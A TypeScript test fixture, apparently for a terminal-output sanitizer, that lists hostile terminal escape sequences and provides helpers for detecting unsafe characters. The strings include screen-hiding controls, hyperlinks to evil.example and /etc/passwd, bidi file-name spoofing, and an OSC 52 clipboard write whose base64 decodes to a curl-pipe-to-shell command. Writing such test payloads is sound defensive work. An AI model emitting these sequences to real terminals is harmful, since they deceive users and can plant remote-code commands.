/** Text that drives a terminal: each would do harm, or hide text, if it reached one raw. */
export const TERMINAL_ATTACKS: readonly string[] = [
	// CSI: clear the screen, colour, move the cursor up over earlier lines.
	"\u001b[2J\u001b[31mred\u001b[0m\u001b[1A",
	// OSC 8 hyperlinks, ended by ST and by BEL.
	"\u001b]8;;https://evil.example/?q=\u001b\\click me\u001b]8;;\u001b\\",
	"\u001b]8;id=x;file:///etc/passwd\u0007open\u001b]8;;\u0007",
	// OSC 52: write the clipboard.
	"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
	// Window and icon titles.
	"\u001b]0;pwned\u0007",
	"\u001b]2;title\u001b\\",
	// C1 controls: CSI (0x9B), OSC (0x9D) ended by ST (0x9C), DCS (0x90), NEL (0x85), and the whole range.
	"\u009b2J\u009b31m",
	"\u009d0;c1 title\u009c",
	"\u0090q\u009c\u0085",
	Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join(""),
	// Bidi overrides, embeddings, isolates and marks: text that reads one way and runs another.
	"safe\u202e)txt.exe(\u202c",
	"\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
	// Bare C0 controls and DEL: a carriage return that hides what came before, backspaces, a bell, NUL.
	"visible\rHIDDEN\b\b\u0007\u0000\u007f\u001b",
];

/** Every attack in one string, each behind a marker so a test can find the field it was put in. */
export function hostile(marker: string): string {
	return `${marker}${TERMINAL_ATTACKS.join("|")}`;
}

/** True for a code point that must not reach a terminal: written here apart from the sanitizer, on purpose. */
function unsafe(code: number): boolean {
	if (code === 0x0a || code === 0x09) return false;
	if (code < 0x20) return true;
	if (code >= 0x7f && code <= 0x9f) return true;
	if (code >= 0x202a && code <= 0x202e) return true;
	if (code >= 0x2066 && code <= 0x2069) return true;
	return code === 0x200e || code === 0x200f || code === 0x061c;
}

/** The unsafe characters in `text`, as `U+XXXX` with their offset; empty when it may go to a terminal. */
export function unsafeCharacters(text: string): string[] {
	const found: string[] = [];
	for (let i = 0; i < text.length; i++) {
		const code = text.charCodeAt(i);
		if (unsafe(code)) found.push(`U+${code.toString(16).toUpperCase().padStart(4, "0")} at ${i}`);
	}
	return found;
}
